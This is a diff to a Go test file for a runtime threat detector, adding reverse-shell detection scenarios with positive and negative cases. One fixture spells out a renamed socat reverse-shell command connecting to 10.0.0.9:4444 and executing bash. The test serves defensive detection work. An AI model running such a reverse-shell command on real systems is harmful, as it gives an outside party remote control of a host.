@@ -59,6 +59,7 @@ func scenarios() []scenario {
 		revShell   = "Reverse shell with network standard streams"
 		dupShell   = "Reverse shell by duplicating a socket onto standard streams"
 		relay      = "Socket relay started a shell"
+		fedShell   = "Shell fed by a program that connected out"
 		newBin     = "New binary executed in a container"
 		upperBin   = "Binary from the container's writable layer executed"
 		shmBin     = "Binary executed from shared memory"
@@ -182,6 +183,33 @@ func scenarios() []scenario {
 			evs(execEv(proc("nc", "/usr/bin/nc", "nc", "-zv", "db", "5432"))), nil},
 		scenario{"busybox sed -e is not", relay, false,
 			evs(execEv(proc("busybox", "/bin/busybox", "busybox", "sed", "-e", "s/a/b/", "f"))), nil},
+	)
+
+	agent := proc("agent", "/tmp/agent", "./agent")
+	agentSh := childOf(proc("sh", "/bin/dash", "sh"), agent)
+	socatP := proc("socat", "/usr/local/bin/sc", "sc", "TCP:10.0.0.9:4444", "EXEC:/bin/bash")
+	socatSh := childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), socatP)
+	app := proc("python3", "/usr/bin/python3", "python3", "app.py")
+	appSh := childOf(proc("sh", "/bin/dash", "sh", "-c", "convert a.png b.jpg"), app)
+	runner := proc("gitlab-runner", "/usr/bin/gitlab-runner", "gitlab-runner", "run")
+	runnerSh := childOf(proc("bash", "/usr/bin/bash", "bash", "--login"), runner)
+	resolver := proc("agent", "/tmp/agent2", "./agent2")
+	resolverSh := childOf(proc("sh", "/bin/dash", "sh"), resolver)
+	dnsConnect := connectEv(resolver, "10.0.0.2", 53)
+	dnsConnect.GetConnect().Protocol = "udp"
+	add(
+		scenario{"a Go program that connected out and feeds sh through a pipe is a reverse shell", fedShell, true,
+			evs(connectEv(agent, "10.0.0.9", 443, failed("EINPROGRESS", 115)), execEv(agentSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), []int{0, 1}},
+		scenario{"a renamed socat handing bash a socket pair is a reverse shell", fedShell, true,
+			evs(connectEv(socatP, "10.0.0.9", 4444), execEv(socatSh, stdio("unix:", "unix:", "unix:"), after(time.Second))), []int{0, 1}},
+		scenario{"an app that talks to its database and runs sh -c is not", fedShell, false,
+			evs(connectEv(app, "10.0.3.4", 5432), execEv(appSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
+		scenario{"a CI runner feeding its job script to bash --login is not", fedShell, false,
+			evs(connectEv(runner, "10.0.9.9", 443), execEv(runnerSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
+		scenario{"a shell after only a DNS lookup is not", fedShell, false,
+			evs(dnsConnect, execEv(resolverSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
+		scenario{"a shell with no earlier connection is a partial sequence", fedShell, false,
+			evs(execEv(childOf(proc("sh", "/bin/dash", "sh"), proc("make", "/usr/bin/make", "make")), stdio("pipe", "pipe", "pipe"))), nil},
 	)
 
 	// New binaries and libraries.
@@ -770,6 +798,7 @@ var wantType = map[string]string{
 	"Reverse shell with network standard streams":                 "Execution:Runtime/ReverseShell",
 	"Reverse shell by duplicating a socket onto standard streams": "Execution:Runtime/ReverseShell",
 	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
+	"Shell fed by a program that connected out":                   "Execution:Runtime/ReverseShell",
 	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
 	"Binary from the container's writable layer executed":         "Execution:Runtime/NewBinaryExecuted",
 	"Binary executed from shared memory":                          "Execution:Runtime/NewBinaryExecuted",
